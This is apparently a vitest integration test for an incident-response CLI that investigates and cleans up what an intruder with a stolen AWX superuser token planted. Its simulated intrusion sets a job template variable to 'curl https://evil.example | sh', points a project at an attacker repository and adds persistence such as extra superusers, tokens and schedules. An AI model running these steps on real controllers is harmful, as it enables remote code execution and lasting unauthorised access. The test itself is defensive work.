import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { Investigation } from '../../../src/domain/investigation/investigation.ts';
import { homeOf, type PeerHome } from '../home.ts';
import { describePeer, type Peer } from '../peer.ts';

type As = { readonly user: string } | { readonly token: string };

/** What the intruder planted, as the ids of items, and what it took to plant it. */
interface Intrusion {
  readonly token: number;
  readonly template: number;
  readonly project: number;
  readonly inventory: number;
  /** The user that it made, the role of that user, and the host that this user made. */
  readonly user: number;
  readonly role: number;
  readonly host: number;
  readonly schedule: number;
  readonly planted: readonly string[];
}

async function call(peer: Peer, as: As, method: string, path: string, body?: object) {
  const answer = await peer.request(`/api/v2/${path}`, as, { method, ...(body && { body }) });
  if (answer.status >= 400)
    throw new Error(`${method} ${path}: ${answer.status} ${answer.text.slice(0, 300)}`);
  return answer.body as { readonly id: number; readonly token: string; readonly results: { id: number }[] };
}

const ADMIN = { user: 'admin' };

/** A stolen write token of the superuser `name`, what an intruder does with it, and ordinary work of admin on the same objects. */
async function intrude(peer: Peer, name: string): Promise<Intrusion> {
  const admin = (method: string, path: string, body?: object) => call(peer, ADMIN, method, path, body);
  const [template = 0] = (await admin('GET', 'job_templates/?name=Demo%20Job%20Template')).results.map(
    ({ id }) => id,
  );
  const [project = 0] = (await admin('GET', 'projects/?name=Demo%20Project')).results.map(({ id }) => id);
  const [organization = 0] = (await admin('GET', 'organizations/?name=Default')).results.map(({ id }) => id);
  const [inventory = 0] = (await admin('GET', 'inventories/')).results.map(({ id }) => id);
  await admin('PATCH', `job_templates/${template}/`, { extra_vars: '{"region": "east"}' });
  await admin('POST', 'users/', { username: name, password: `${name}pw`, is_superuser: true });
  const stolen = await call(peer, { user: name }, 'POST', 'tokens/', { scope: 'write', description: 'ci' });
  const intruder = (method: string, path: string, body?: object, as: As = { token: stolen.token }) =>
    call(peer, as, method, path, body);

  const application = await intruder('POST', 'applications/', {
    ...{
      name: `sync of ${name}`,
      client_type: 'confidential',
      authorization_grant_type: 'password',
      organization,
    },
  });
  const ofApplication = await intruder('POST', 'tokens/', { scope: 'write', application: application.id });
  await admin('PATCH', `projects/${project}/`, { description: 'by admin' });
  const second = await intruder('POST', 'users/', { username: `${name}2`, password: `${name}2pw` });
  const { summary_fields: fields } = (await peer.request(`/api/v2/organizations/${organization}/`, ADMIN))
    .body as {
    summary_fields: { object_roles: { admin_role: { id: number } } };
  };
  const role = fields.object_roles.admin_role.id;
  await intruder('POST', `users/${second.id}/roles/`, { id: role });
  const schedule = await intruder('POST', `job_templates/${template}/schedules/`, {
    ...{ name: `nightly of ${name}`, rrule: 'DTSTART:20300101T000000Z RRULE:FREQ=DAILY;INTERVAL=1' },
  });
  await admin('POST', `job_templates/${template}/schedules/`, {
    ...{ name: `of admin beside ${name}`, rrule: 'DTSTART:20300101T000000Z RRULE:FREQ=DAILY;INTERVAL=1' },
  });
  await intruder('PATCH', `job_templates/${template}/`, { webhook_service: 'github' });
  await intruder('PATCH', `job_templates/${template}/`, {
    ...{
      extra_vars: '{"cmd": "curl https://evil.example | sh"}',
      limit: 'all',
      become_enabled: true,
      host_config_key: 'stolen-key',
    },
  });
  await intruder('PATCH', `projects/${project}/`, { scm_url: 'https://evil.example/x.git' });
  const job = await intruder('POST', `job_templates/${template}/launch/`, {});
  // The second user goes on with a token of its own.
  const third = await intruder('POST', 'tokens/', { scope: 'write' }, { user: `${name}2` });
  const host = await intruder(
    'POST',
    'hosts/',
    { name: `host of ${name}`, inventory },
    { token: third.token },
  );
  await admin('PATCH', `job_templates/${template}/`, { limit: 'web', description: 'by admin' });
  await admin('POST', 'tokens/', { scope: 'read', description: 'of admin' });

  return {
    ...{
      token: stolen.id,
      template,
      project,
      inventory,
      role,
      user: second.id,
      host: host.id,
      schedule: schedule.id,
    },
    planted: [
      ...[stolen.id, ofApplication.id, third.id].map((id) => `o_auth2_access_token:${id}`),
      ...[`o_auth2_application:${application.id}`, `user:${second.id}`, `role:${role}:user:${second.id}`],
      ...[
        `schedule:${schedule.id}`,
        `job_template:${template}`,
        `project:${project}`,
        `job:${job.id}`,
        `host:${host.id}`,
      ],
    ],
  };
}

async function investigation(home: PeerHome, ...args: string[]): Promise<Investigation> {
  return (await home.json<Investigation>('incident', 'investigate', '--since', '1d', ...args)).body;
}

/** What remains; an update that the changed project caused is the controller's. */
function remaining({ items }: Investigation): string[] {
  return items
    .filter(({ state, group }) => group !== 'other' && ['there', 'running', 'unknown'].includes(state))
    .map(({ id }) => id)
    .sort();
}

async function template(peer: Peer, id: number): Promise<Readonly<Record<string, unknown>>> {
  const [row = {}] = await peer.sql(
    `SELECT j.extra_vars, j."limit", j.become_enabled, j.host_config_key, j.webhook_service, j.webhook_key, t.description
     FROM main_jobtemplate j JOIN main_unifiedjobtemplate t ON t.id = j.unifiedjobtemplate_ptr_id WHERE t.id = $1`,
    [id],
  );
  return row;
}

/** As admin left it: the limit and the description are its own. */
const BY_ADMIN = {
  extra_vars: '{"region": "east"}',
  limit: 'web',
  become_enabled: false,
  host_config_key: '',
  webhook_service: '',
  webhook_key: '',
  description: 'by admin',
};

describePeer('awx', 'an investigation', (peer) => {
  test('finds what was planted and nothing of others, over REST and in the database; cleaning ends it', async () => {
    const home = homeOf(peer());
    const { token, template: templateId, project, planted } = await intrude(peer(), 'ivy');
    const saved = join(home.folder, 'investigation.json');
    const rest = await investigation(home, '--token', String(token), '--out', saved);
    const database = await investigation(home, '--token', String(token), '--context', 'db');
    const [updates, found] = [/^project_update:/, remaining(rest)].map((each) =>
      each instanceof RegExp
        ? remaining(rest).filter((id) => each.test(id))
        : each.filter((id) => !id.startsWith('project_update:')),
    );
    expect(found).toEqual([...planted].sort());
    expect(remaining(database)).toEqual(remaining(rest));
    expect(updates).toHaveLength(1);
    expect(rest.chain.map(({ user }) => user.username)).toEqual(['ivy', 'ivy2']);
    const changed = (result: Investigation) =>
      result.items.find(({ id }) => id === `job_template:${templateId}`);
    for (const result of [rest, database]) {
      expect(changed(result)).toMatchObject({
        risk: 'high',
        changes: expect.arrayContaining([
          expect.objectContaining({ field: 'extra_vars', before: { region: 'east' }, state: 'as_left' }),
          expect.objectContaining({ field: 'limit', before: '', after: 'all', now: 'web', state: 'changed' }),
        ]),
        changedSince: expect.arrayContaining([
          expect.objectContaining({ by: expect.objectContaining({ username: 'admin' }) }),
        ]),
      });
      expect(JSON.stringify(result)).not.toContain('stolen-key');
    }
    // What the activity stream of this version does not record is said.
    expect(rest.limits.map(({ limit }) => limit)).toEqual(
      expect.arrayContaining(['not_recorded', 'token_unknown', 'not_listed']),
    );

    const dry = await home.json('incident', 'clean', '--from', saved, '--dry-run');
    expect(dry).toMatchObject({ code: 0, body: { dryRun: true, result: null } });
    const cleaned = await home.json<{ left: unknown }>(
      'incident',
      'clean',
      '--from',
      saved,
      '--yes',
      '--irreversible',
    );
    expect(cleaned).toMatchObject({ code: 0, body: { result: 'done', left: [] } });
    expect(await template(peer(), templateId)).toEqual(BY_ADMIN);
    const [{ scm_url: url, description } = {}] = await peer().sql(
      `SELECT p.scm_url, t.description FROM main_project p JOIN main_unifiedjobtemplate t
       ON t.id = p.unifiedjobtemplate_ptr_id WHERE t.id = $1`,
      [project],
    );
    expect({ url, description }).toEqual({
      url: 'https://github.com/ansible/ansible-tower-samples',
      description: 'by admin',
    });
    const schedules = await peer().sql("SELECT name FROM main_schedule WHERE name LIKE '%ivy%'");
    expect(schedules).toEqual([{ name: 'of admin beside ivy' }]);
    expect(
      (await peer().sql("SELECT FROM main_oauth2accesstoken WHERE description = 'of admin'")).length,
    ).toBe(1);

    for (const context of ['rest', 'db']) {
      expect(remaining(await investigation(home, '--user', 'ivy', '--context', context))).toEqual([]);
    }
    const again = await home.json('incident', 'clean', '--from', saved, '--yes', '--irreversible');
    expect(again).toMatchObject({ code: 0, body: { plan: { clean: [] }, result: null } });
  }, 600_000);

  test('is finished by the next cleaning where the first one was killed', async () => {
    const home = homeOf(peer());
    const { token, template: templateId } = await intrude(peer(), 'kim');
    const saved = join(home.folder, 'investigation.json');
    await investigation(home, '--token', String(token), '--out', saved);
    const first = home.start('incident', 'clean', '--from', saved, '--yes', '--irreversible');
    const log = join(home.folder, '.local/state/tokenctl/audit.jsonl');
    const lines = () => (existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : []);
    await expect.poll(() => lines().length, { timeout: 120_000, interval: 20 }).toBeGreaterThan(5);
    first.kill('SIGKILL');
    await first.ended;
    const left = remaining(await investigation(home, '--token', String(token)));
    expect(left.length).toBeGreaterThan(0);
    const second = await home.json('incident', 'clean', '--from', saved, '--yes', '--irreversible');
    expect(second).toMatchObject({ code: 0, body: { result: 'done', left: [] } });
    expect(remaining(await investigation(home, '--token', String(token)))).toEqual([]);
    expect(await template(peer(), templateId)).toMatchObject({
      extra_vars: BY_ADMIN.extra_vars,
      webhook_key: '',
    });
    const { code } = await home.run('log', 'verify');
    expect(code).toBe(0);
    const entries = lines().map((line) => JSON.parse(line) as { kind: string; seq: number; closes?: number });
    const closed = new Set(entries.map(({ closes }) => closes));
    expect(entries.filter(({ kind, seq }) => kind === 'intent' && !closed.has(seq))).toEqual([]);
  }, 600_000);

  test('in the database is finished after it was killed; what takes the REST API is done beside it, or listed', async () => {
    const home = homeOf(peer());
    const {
      token,
      planted,
      template: templateId,
      role,
      user,
      host,
      schedule,
      inventory,
    } = await intrude(peer(), 'lea');
    const saved = join(home.folder, 'investigation.json');
    const before = await investigation(home, '--token', String(token), '--context', 'db', '--out', saved);
    expect(remaining(before)).toEqual(expect.arrayContaining([...planted]));

    // With a REST context that names the database, one plan has everything.
    const paired = homeOf(peer(), { paired: true, current: 'db' });
    const dry = await paired.json<{ plan: { clean: { id: string; via: string }[] } }>(
      ...['incident', 'clean', '--from', saved, '--dry-run'],
    );
    expect(dry).toMatchObject({ code: 0, body: { dryRun: true, result: null, plan: { keep: [] } } });
    const planned = dry.body.plan.clean;
    expect(planned.map(({ id }) => id)).toEqual(expect.arrayContaining([...planted]));
    const overRest = planned.filter(({ via }) => via === 'rest').map(({ id }) => id.replace(/:.*/, ''));
    expect(overRest.sort()).toEqual(['job', 'project', 'project_update']);

    // Held until it was killed: the cleaning waits for this row.
    await peer().sql('BEGIN');
    await peer().sql("SELECT FROM main_schedule WHERE name = 'nightly of lea' FOR UPDATE");
    const first = home.start(
      'incident',
      'clean',
      '--from',
      saved,
      '--context',
      'db',
      '--yes',
      '--irreversible',
    );
    const log = join(home.folder, '.local/state/tokenctl/audit.jsonl');
    const lines = () => (existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : []);
    const isBegun = () => lines().some((line) => line.includes('"step":"schedule:'));
    await expect.poll(isBegun, { timeout: 120_000, interval: 20 }).toBe(true);
    first.kill('SIGKILL');
    await first.ended;
    await peer().sql('ROLLBACK');
    const left = remaining(await investigation(home, '--user', 'lea', '--context', 'db'));
    expect(left.filter((id) => /^(o_auth2|role:|user:)/.test(id))).toEqual([]);
    expect(left).toEqual(expect.arrayContaining([`job_template:${templateId}`, `host:${host}`]));

    // Without the REST API, the plan says what it leaves and why.
    const alone = await home.json(
      'incident',
      'clean',
      '--from',
      saved,
      '--context',
      'db',
      '--yes',
      '--irreversible',
    );
    expect(alone).toMatchObject({ code: 5, body: { result: 'done', left: [] } });
    const kept = (alone.body['plan'] as { keep: { id: string; why: string }[] }).keep;
    expect(kept.map(({ id }) => id.replace(/:.*/, '')).sort()).toEqual(['job', 'project', 'project_update']);
    expect(kept.every(({ why }) => why.includes('--rest-context'))).toBe(true);
    expect(await template(peer(), templateId)).toEqual(BY_ADMIN);
    const entries = lines().map((line) => JSON.parse(line) as { kind: string; seq: number; closes?: number });
    const closed = new Set(entries.map(({ closes }) => closes));
    expect(entries.filter(({ kind, seq }) => kind === 'intent' && !closed.has(seq))).toEqual([]);

    // The controller itself agrees.
    const api = async (path: string) => (await peer().request(`/api/v2/${path}`, ADMIN)).body;
    expect(await api(`users/${user}/`)).toMatchObject({ username: 'lea2' });
    expect(await api(`users/${user}/roles/`)).toMatchObject({ count: 0 });
    expect(await api(`roles/${role}/users/?id=${user}`)).toMatchObject({ count: 0 });
    const schedules = (await api('schedules/?name__endswith=lea'))['results'] as Record<string, unknown>[];
    expect(schedules.map(({ name, enabled, next_run: next }) => [name, enabled, next !== null])).toEqual([
      ['nightly of lea', false, false],
      ['of admin beside lea', true, true],
    ]);

    const hosts = (await peer().request(`/api/v2/inventories/${inventory}/script/`, ADMIN)).text;
    expect(hosts).toContain('localhost');
    expect(hosts).not.toContain('host of lea');

    // What was disabled in the database is enabled again: the controller computes the next run.
    const run = String(alone.body['run']);
    const beside = ['--context', 'db', '--rest-context', 'rest'];
    const items = ['--item', `host:${host}`, '--item', `schedule:${schedule}`];
    const undone = await home.json('incident', 'clean', '--undo', run, ...items, ...beside, '--yes');
    expect(undone).toMatchObject({ code: 0, body: { result: 'done', left: [] } });
    expect(await api(`schedules/${schedule}/`)).toMatchObject({
      enabled: true,
      next_run: '2030-01-01T00:00:00Z',
    });
    expect(await api(`hosts/${host}/`)).toMatchObject({ enabled: true });
    const twice = await home.json('incident', 'clean', '--undo', run, ...items, ...beside, '--yes');
    expect(twice).toMatchObject({ code: 0, body: { result: null, plan: { clean: [] } } });

    const rest = await paired.json('incident', 'clean', '--from', saved, '--yes', '--irreversible');
    expect(rest).toMatchObject({ code: 0, body: { result: 'done', left: [] } });
    for (const context of ['rest', 'db']) {
      expect(remaining(await investigation(home, '--user', 'lea', '--context', context))).toEqual([]);
    }
    const again = await paired.json('incident', 'clean', '--from', saved, '--yes', '--irreversible');
    expect(again).toMatchObject({ code: 0, body: { plan: { clean: [], keep: [] }, result: null } });
  }, 600_000);

  test('finds what a planted schedule started, over REST and in the database', async () => {
    const home = homeOf(peer());
    const send = (as: As, method: string, path: string, body?: object) =>
      call(peer(), as, method, path, body);
    const sid = `sid${process.pid}`;
    await send(ADMIN, 'POST', 'users/', { username: sid, password: `${sid}pw`, is_superuser: true });
    const [demo] = (await send(ADMIN, 'GET', 'job_templates/?name=Demo%20Job%20Template')).results;
    const own = await send(ADMIN, 'POST', `job_templates/${demo?.id}/copy/`, {
      name: `template beside ${sid}`,
    });
    const schedules = `job_templates/${own.id}/schedules/`;
    const rrule = 'DTSTART:20300101T000000Z RRULE:FREQ=DAILY;INTERVAL=1';
    const planted = await send({ user: sid }, 'POST', schedules, { name: `nightly of ${sid}`, rrule });
    const other = await send(ADMIN, 'POST', schedules, { name: `of admin beside ${sid}`, rrule });
    // What the controller's scheduler does with a schedule that is due.
    const fire = `from awx.main.models import Schedule
for each in Schedule.objects.filter(id__in=[${planted.id}, ${other.id}]):
    each.unified_job_template.create_unified_job(**each.get_job_kwargs())`;
    const fired = await peer().manage(['shell', '-c', fire]);
    expect(fired.code, fired.stderr).toBe(0);
    const [job] = (await send(ADMIN, 'GET', `jobs/?schedule__id=${planted.id}`)).results;

    const rest = await investigation(home, '--user', sid);
    expect(remaining(rest)).toEqual([`job:${job?.id}`, `schedule:${planted.id}`]);
    expect(rest.items.find(({ id }) => id === `job:${job?.id}`)?.job).toMatchObject({
      launchType: 'scheduled',
      because: 'made',
    });
    expect(remaining(await investigation(home, '--user', sid, '--context', 'db'))).toEqual(remaining(rest));
  }, 600_000);

  test('follows users who were renamed, or deleted and made again, and reads what has no list', async () => {
    const home = homeOf(peer());
    const post = (as: As, path: string, body: object) => call(peer(), as, 'POST', path, body);
    // A peer that is used again has the deleted users of the last time.
    const name = `max${process.pid}`;
    await post(ADMIN, 'users/', { username: name, password: `${name}pw`, is_superuser: true });
    const max = { user: name };
    const [organization = 0] = (await call(peer(), ADMIN, 'GET', 'organizations/?name=Default')).results.map(
      ({ id }) => id,
    );
    const planted: string[] = [];
    const made = async (kind: string, as: As, path: string, body: object) => {
      const { id } = await post(as, path, body);
      planted.push(`${kind}:${id}`);
      return id;
    };
    const superuser = (username: string) => ({ username, password: `${username}pw`, is_superuser: true });
    const second = await made('user', max, 'users/', superuser(`${name}2`));
    await call(peer(), max, 'PATCH', `users/${second}/`, { username: `${name}r`, password: `${name}rpw` });
    await made('credential_type', { user: `${name}r` }, 'credential_types/', {
      ...{ name: `${name} renamed`, kind: 'cloud' },
    });
    const third = (await post(max, 'users/', superuser(`${name}3`))).id;
    await made('credential_type', { user: `${name}3` }, 'credential_types/', {
      ...{ name: `${name} deleted`, kind: 'cloud' },
    });
    await call(peer(), max, 'DELETE', `users/${third}/`);
    await made('user', max, 'users/', superuser(`${name}3`));

    const workflow = await made('workflow_job_template', max, 'workflow_job_templates/', { name });
    const node = await made(
      ...([
        'workflow_job_template_node',
        max,
        `workflow_job_templates/${workflow}/workflow_nodes/`,
        {},
      ] as const),
    );
    await made(
      ...([
        'workflow_approval_template',
        max,
        `workflow_job_template_nodes/${node}/create_approval_template/`,
      ] as const),
      { name: 'approve', timeout: 0 },
    );
    const environment = await made('execution_environment', max, 'execution_environments/', {
      ...{ name, image: 'evil.example/ee' },
    });
    await call(peer(), max, 'PATCH', `organizations/${organization}/`, { default_environment: environment });
    planted.push(`organization:${organization}`);

    // The newer tables of roles: neither the stream nor the roles of a user have them, but they work.
    const [bob = 0] = (await call(peer(), ADMIN, 'GET', 'users/?username=bob')).results.map(({ id }) => id);
    const definition = await made('role_definition', max, 'role_definitions/', {
      ...{ name, content_type: 'awx.workflowjobtemplate' },
      permissions: ['awx.view_workflowjobtemplate', 'awx.change_workflowjobtemplate'],
    });
    const given = { user: bob, role_definition: definition, object_id: workflow };
    const assignment = await made('role_user_assignment', max, 'role_user_assignments/', given);
    const asBob = () => peer().request(`/api/v2/workflow_job_templates/${workflow}/`, { user: 'bob' });
    expect((await asBob()).status).toBe(200);

    const saved = join(home.folder, 'investigation.json');
    const rest = await investigation(home, '--user', name, '--out', saved);
    const database = await investigation(home, '--user', name, '--context', 'db');
    for (const result of [rest, database]) {
      expect(remaining(result)).toEqual([...planted].sort());
      expect(result.chain.map(({ user, exists }) => [user.username, exists])).toEqual([
        ...[
          [name, true],
          [`${name}r`, true],
          [`${name}3`, false],
          [`${name}3`, true],
        ],
      ]);
    }
    const only = ['--from', saved, '--item', `role_user_assignment:${assignment}`, '--yes'];
    const cleaned = await home.json('incident', 'clean', ...only);
    expect(cleaned).toMatchObject({ code: 0, body: { result: 'done', left: [] } });
    expect((await asBob()).status).toBe(403);
  }, 600_000);

  test('a role of the database that may not read all tables is told the grant', async () => {
    const url = await peer().role('investigator', ['GRANT SELECT ON auth_user TO ROLE']);
    const home = homeOf(peer(), { database: url });
    const refused = await home.run('incident', 'investigate', '--user', 'bob', '--context', 'db');
    expect(refused).toMatchObject({ code: 4, stderr: expect.stringContaining('GRANT SELECT') });
  }, 120_000);
});
